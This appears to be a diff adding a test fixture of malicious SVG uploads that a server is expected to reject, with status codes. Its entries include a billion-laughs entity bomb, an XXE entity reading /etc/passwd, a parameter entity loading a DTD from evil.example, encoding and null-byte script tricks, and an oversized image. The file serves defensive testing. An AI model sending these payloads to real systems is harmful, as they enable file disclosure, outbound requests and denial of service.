@@ -1,0 +1,70 @@
+import { svg, type Refused } from './hostile-pictures';
+
+/** Drawings that mean to be read in another way. */
+export const REFUSED_DRAWINGS: Refused[] = [
+  [
+    'a billion laughs',
+    () =>
+      svg(
+        '<text>&c;</text>',
+        '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>',
+      ),
+    400,
+    'bad-request',
+  ],
+  [
+    'a file of the server in an entity',
+    () => svg('<text>&x;</text>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
+    400,
+    'bad-request',
+  ],
+  [
+    'a parameter entity',
+    () => svg('', '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'),
+    400,
+    'bad-request',
+  ],
+  [
+    'a drawing in UTF-16',
+    () => Buffer.from(`\uFEFF${svg('<path d="M0 0h9"/>')}`, 'utf16le'),
+    400,
+    'bad-request',
+  ],
+  [
+    'a drawing that says it is in UTF-7',
+    () => svg('+ADw-script/+AD4-', '<?xml version="1.0" encoding="UTF-7"?>'),
+    400,
+    'bad-request',
+  ],
+  ['a drawing with a null byte', () => svg('<path d="M0 0h9"/><scr\0ipt/>'), 400, 'bad-request'],
+  [
+    'a drawing that is not closed',
+    () => '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9">',
+    400,
+    'bad-request',
+  ],
+  [
+    'a drawing of another namespace',
+    () => '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
+    415,
+    'unsupported-type',
+  ],
+  [
+    'a drawing without a namespace',
+    () => '<svg viewBox="0 0 9 9"><path d="M0 0h9"/></svg>',
+    415,
+    'unsupported-type',
+  ],
+  [
+    'a drawing of nothing but a script',
+    () => svg('<script>alert(1)</script>'),
+    415,
+    'unsupported-type',
+  ],
+  [
+    'a drawing 1,000,000,000 wide',
+    () => svg('<path d="M0 0h9"/>').replace('viewBox', 'width="1e9" height="1e9" viewBox'),
+    400,
+    'bad-request',
+  ],
+];
